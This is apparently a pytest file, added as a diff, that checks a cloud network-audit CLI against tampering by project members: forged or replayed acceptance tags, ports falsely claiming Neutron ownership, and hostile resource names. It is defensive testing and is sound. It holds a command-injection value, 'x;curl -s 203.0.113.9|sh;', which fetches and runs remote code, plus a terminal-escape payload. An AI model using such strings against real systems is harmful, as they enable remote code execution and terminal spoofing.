@@ -1,0 +1,288 @@
+"""The audited cannot steer the audit (issue 18): each attack a project
+member can make through the real CLI, as the devcloud's `demo` member,
+and what the admin's audit and commands do about it.
+
+After each: the admin's audit reports the finding, its exit code is what
+it would be without the attack (a baseline of every other finding makes
+the code depend on the attacked resource alone), and where a command
+refused, the cloud is unchanged."""
+
+import json
+import shlex
+import urllib.parse
+import uuid
+
+import pytest
+
+
+SSH = 'sg-ingress-ssh-from-world'
+PSX = 'port-security-disabled'
+STAMP = 'granted=20261101T000000Z-abcd'
+
+
+def _q(text):
+    return urllib.parse.quote(text, safe='')
+
+
+@pytest.fixture(scope='module')
+def lab(devcloud, demo, admin):
+    """demo's network (IPv4 and a global IPv6 subnet), two groups with
+    world-open SSH, and a group of the admin project."""
+    name = 'xlt-%s' % uuid.uuid4().hex[:6]
+    made, undo = {'name': name}, []
+    try:
+        made['net'] = demo.json('network', 'create', name)['id']
+        undo.append((demo, 'network', 'delete', made['net']))
+        demo.run('subnet', 'create', '--network', made['net'],
+                 '--subnet-range', '10.66.0.0/24', name + '-v4')
+        demo.run('subnet', 'create', '--network', made['net'],
+                 '--ip-version', '6', '--subnet-range', '2001:db8:66::/64',
+                 name + '-v6')
+        for label in ('a', 'b'):
+            made[label] = demo.json('security', 'group', 'create',
+                                    '%s-%s' % (name, label))['id']
+            undo.append((demo, 'security', 'group', 'delete', made[label]))
+            made[label + '-rule'] = demo.json(
+                'security', 'group', 'rule', 'create', made[label],
+                '--protocol', 'tcp', '--dst-port', '22', '--remote-ip',
+                '0.0.0.0/0')['id']
+        made['foreign'] = admin.json('security', 'group', 'create',
+                                     name + '-admin-only')['id']
+        undo.append((admin, 'security', 'group', 'delete',
+                     made['foreign']))
+        yield made
+    finally:
+        for port in admin.json('port', 'list', '--network',
+                               made.get('net', 'none')):
+            admin.run('port', 'delete', port['ID'], check=False)
+        for cli, *args in reversed(undo):
+            cli.run(*args, check=False)
+
+
+def _audit(cli, check, *argv):
+    proc = cli.run('network', 'harden', 'audit', '--all-projects',
+                   '--check', check, '-f', 'json', *argv, check=False)
+    assert proc.returncode in (0, 3), proc.stderr
+    return proc.returncode, json.loads(proc.stdout)
+
+
+def _baseline(admin, check, tmp_path, mine):
+    """Every finding of check but those on mine: the exit code of an
+    audit with it depends on mine alone."""
+    _, rows = _audit(admin, check)
+    path = tmp_path / ('baseline-%s.json' % check)
+    path.write_text(json.dumps([r for r in rows
+                                if r['Resource ID'] not in mine]))
+    return str(path)
+
+
+def _tags(cli, kind, rid):
+    return cli.json(*kind.split(), 'show', rid)['tags']
+
+
+def _set_tags(cli, kind, rid, tags):
+    cli.run(*kind.split(), 'set', '--no-tag', rid)
+    for tag in tags:
+        cli.run(*kind.split(), 'set', '--tag', tag, rid)
+
+
+def _decision(rule, review='2027-06-30', by='admin', reason='approved',
+              item=None):
+    return ('xloud-acc:v1 check=%s item=%s review=%s %s by=%s reason=%s'
+            % (SSH, _q(item) if item is not None else rule.replace('-', ''),
+               review, STAMP, by, _q(reason)))
+
+
+def test_forged_copied_edited_and_replayed_decisions_hide_nothing(
+        demo, admin, lab, tmp_path):
+    mine = {lab['a-rule'], lab['b-rule']}
+    base = _baseline(admin, SSH, tmp_path, mine)
+    assert _audit(admin, SSH, '--baseline', base)[0] == 3
+    # 1. forged from scratch by the member, far future, injected item
+    for tag in (_decision(lab['a-rule']),
+                _decision(lab['a-rule'], review='9999-12-31'),
+                _decision(lab['a-rule'], review='2026-11-02',
+                          item='x;curl -s 203.0.113.9|sh;')):
+        demo.run('security', 'group', 'set', '--tag', tag, lab['a'])
+        code, rows = _audit(admin, SSH, '--baseline', base)
+        assert code == 3 and lab['a-rule'] in {r['Resource ID']
+                                               for r in rows}, tag
+        demo.run('security', 'group', 'unset', '--tag', tag, lab['a'])
+    # 2. a real decision on a, copied to b: b's rule is still reported
+    out = admin.json('network', 'harden', 'accept', SSH, lab['a-rule'],
+                     '--reason', 'bastion', '--review-in', '30')
+    assert out['Action'] == 'accepted'
+    [real] = [t for t in _tags(demo, 'security group', lab['a'])
+              if t.startswith('xloud-acc:')]
+    copied = real.replace(lab['a-rule'].replace('-', ''),
+                          lab['b-rule'].replace('-', ''))
+    demo.run('security', 'group', 'set', '--tag', copied, lab['b'])
+    demo.run('security', 'group', 'set', '--tag', real, lab['b'])
+    code, rows = _audit(admin, SSH, '--baseline', base)
+    assert code == 3 and {r['Resource ID'] for r in rows} == {lab['b-rule']}
+    _set_tags(demo, 'security group', lab['b'], [])
+    # 3. the real one edited (review date, reason): a's rule is back
+    for edit in (real.replace('review=', 'review=9'),
+                 real.replace('reason=bastion', 'reason=bastion2')):
+        _set_tags(demo, 'security group', lab['a'], [edit])
+        code, rows = _audit(admin, SSH, '--baseline', base)
+        assert code == 3 and lab['a-rule'] in {r['Resource ID']
+                                               for r in rows}, edit
+    _set_tags(demo, 'security group', lab['a'], [real])
+    assert _audit(admin, SSH, '--baseline', base)[0] == 0   # the real one
+    # 4. revoked, then put back by the member: it hides nothing
+    admin.run('network', 'harden', 'revoke', SSH, lab['a-rule'])
+    demo.run('security', 'group', 'set', '--tag', real, lab['a'])
+    code, rows = _audit(admin, SSH, '--baseline', base)
+    assert code == 3 and lab['a-rule'] in {r['Resource ID'] for r in rows}
+    # every one of them is reported as a request, naming the group
+    _, pending = _audit(admin, 'accepted-request-pending')
+    assert lab['a'] in {r['Resource ID'] for r in pending}
+    listed = admin.json('network', 'harden', 'accepted', 'list',
+                        '--all-projects', '--requested')
+    assert lab['a'] in {r['Resource ID'] for r in listed}
+    _set_tags(demo, 'security group', lab['a'], [])
+
+
+def test_an_injected_item_is_one_argument_of_the_remediation(
+        demo, admin, lab):
+    item = 'x;curl -s 203.0.113.9|sh;'
+    tag = _decision(lab['b-rule'], item=item, review='2026-11-02')
+    demo.run('security', 'group', 'set', '--tag', tag, lab['b'])
+    try:
+        _, rows = _audit(admin, 'accepted-request-pending')
+        [row] = [r for r in rows if r['Resource ID'] == lab['b']]
+        assert shlex.split(row['Remediation']) == [
+            'openstack', 'network', 'harden', 'approve', SSH, item]
+        long = admin.run('network', 'harden', 'audit', '--all-projects',
+                         '--check', 'accepted-request-pending', '--long',
+                         '-f', 'value', '-c', 'Resource ID', '-c',
+                         'Remediation', check=False).stdout
+        [line] = [ln for ln in long.splitlines() if lab['b'] in ln]
+        assert shlex.split(line.split(' ', 1)[1])[-1] == item
+    finally:
+        demo.run('security', 'group', 'unset', '--tag', tag, lab['b'])
+
+
+def _port(demo, lab, name, *argv):
+    return demo.json('port', 'create', '--network', lab['net'],
+                     '%s-%s' % (lab['name'], name), *argv)['id']
+
+
+def test_forged_port_security_records_document_nothing(demo, admin, lab,
+                                                       tmp_path):
+    port = _port(demo, lab, 'fw', '--disable-port-security',
+                 '--no-security-group')
+    base = _baseline(admin, PSX, tmp_path, {port})
+    for review in ('9999-12-31', '2027-06-30'):
+        tag = ('xloud-psx:v1 review=%s %s by=admin sg= reason=approved'
+               % (review, STAMP))
+        _set_tags(demo, 'port', port, [tag])
+        code, rows = _audit(admin, PSX, '--baseline', base)
+        assert code == 3 and {r['Resource ID'] for r in rows} == {port}
+        [row] = [r for r in admin.json(
+            'port', 'security', 'exception', 'list', '--all-projects')
+            if r['Port ID'] == port]
+        assert row['Status'] == ('invalid record' if review == '9999-12-31'
+                                 else 'requested'), row
+
+
+def test_enable_refuses_a_recorded_group_of_another_project(demo, admin,
+                                                            lab):
+    port = _port(demo, lab, 'pending', '--disable-port-security',
+                 '--no-security-group')
+    tag = ('xloud-psx:p1 review=2027-06-30 %s by=admin sg=%s reason=x'
+           % (STAMP, lab['foreign'].replace('-', '')))
+    demo.run('port', 'set', '--tag', tag, port)
+    _, rows = _audit(admin, PSX)
+    [row] = [r for r in rows if r['Resource ID'] == port]
+    assert row['Detail'].startswith(
+        'port security off, exception record never confirmed')
+    before = admin.json('port', 'show', port)
+    for dry in ((), ('--dry-run',)):
+        proc = admin.run('port', 'security', 'enable', port, *dry,
+                         check=False)
+        assert proc.returncode == 1
+        [line] = proc.stderr.strip().splitlines()
+        assert 'names security group %s of project' % lab['foreign'] in line
+        assert line.endswith('nothing was changed')
+    after = admin.json('port', 'show', port)
+    assert (after['port_security_enabled'], after['security_group_ids'],
+            after['revision_number']) == (
+        False, [], before['revision_number'])
+
+
+@pytest.mark.parametrize('owner', ['network:dhcp', 'network:floatingip',
+                                   'network:router_interface',
+                                   'network:xyz'])
+def test_ports_claiming_neutron_are_ordinary_ports(demo, admin, lab, owner,
+                                                   tmp_path):
+    port = _port(demo, lab, owner.split(':')[1], '--disable-port-security',
+                 '--no-security-group', '--device-owner', owner)
+    base = _baseline(admin, PSX, tmp_path, {port})
+    code, rows = _audit(admin, PSX, '--baseline', base)
+    assert code == 3
+    [row] = rows
+    assert row['Resource ID'] == port
+    assert "claims %s, not verified as Neutron's own" % owner in \
+        row['Detail']
+    listed = admin.json('port', 'security', 'exception', 'list',
+                        '--all-projects')
+    assert [r['Status'] for r in listed if r['Port ID'] == port] == [
+        'undocumented']
+
+
+def test_a_public_port_claiming_dhcp_is_still_exposed(demo, admin, lab):
+    check = 'port-exposes-sensitive-port'
+    port = _port(demo, lab, 'public', '--security-group', lab['a'])
+    demo.run('port', 'set', '--device-owner', 'network:dhcp', port)
+    _, rows = _audit(admin, check)
+    [row] = [r for r in rows if r['Resource ID'] == port and
+             r['Detail Key'] == 'IPv6']
+    assert row['Detail'].startswith('reachable by global address '
+                                    '2001:db8:66:')
+    assert row['Detail'].endswith(
+        "(claims network:dhcp; not verified as Neutron's own)")
+
+
+HOSTILE = 'ops\x1b[2J\x1b[H\x1b]0;pwned\x07\r\nfake row\u202eevil'
+
+
+def test_hostile_names_and_records_reach_no_terminal(demo, admin, lab):
+    demo.run('security', 'group', 'set', '--name', HOSTILE, lab['b'])
+    port = _port(demo, lab, 'bad-record', '--disable-port-security',
+                 '--no-security-group')
+    demo.run('port', 'set', '--name', HOSTILE, '--tag',
+             'xloud-psx:v1 review=2027-06-30 %s by=%s sg= reason=%s'
+             % (STAMP, _q('\x1b]0;pwned\x07'), _q('a\r\nb\x1b[2J')), port)
+    try:
+        machine = json.loads(admin.run(
+            'network', 'harden', 'audit', '--all-projects', '-f', 'json',
+            check=False).stdout)
+        assert HOSTILE + ' rule' in {r['Resource Name'] for r in machine}
+        for argv in (('network', 'harden', 'audit', '--all-projects'),
+                     ('network', 'harden', 'audit', '--all-projects',
+                      '--long'),
+                     ('network', 'harden', 'accepted', 'list',
+                      '--all-projects', '--long'),
+                     ('port', 'security', 'exception', 'list',
+                      '--all-projects')):
+            for fmt in ('table', 'value', 'csv'):
+                proc = admin.run(*argv, '-f', fmt, check=False)
+                assert proc.returncode in (0, 3), proc.stderr
+                text = proc.stdout + proc.stderr
+                bad = [c for c in text if not c.isprintable() and c != '\n']
+                assert not bad, (argv, fmt, bad[:5])
+                if argv[-1] == '--all-projects' and fmt == 'value' and \
+                        argv[2] == 'audit':
+                    assert len(proc.stdout.splitlines()) == len(machine)
+                if argv[2] == 'audit':
+                    assert proc.returncode == 3
+                    assert 'sg-ingress-ssh-from-world' in proc.stdout
+        table = admin.run('network', 'harden', 'audit', '--all-projects',
+                          check=False).stdout
+        assert 'ops\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07\\r\\nfake ' \
+            'row\\u202eevil rule' in table
+    finally:
+        demo.run('security', 'group', 'set', '--name', lab['name'] + '-b',
+                 lab['b'])
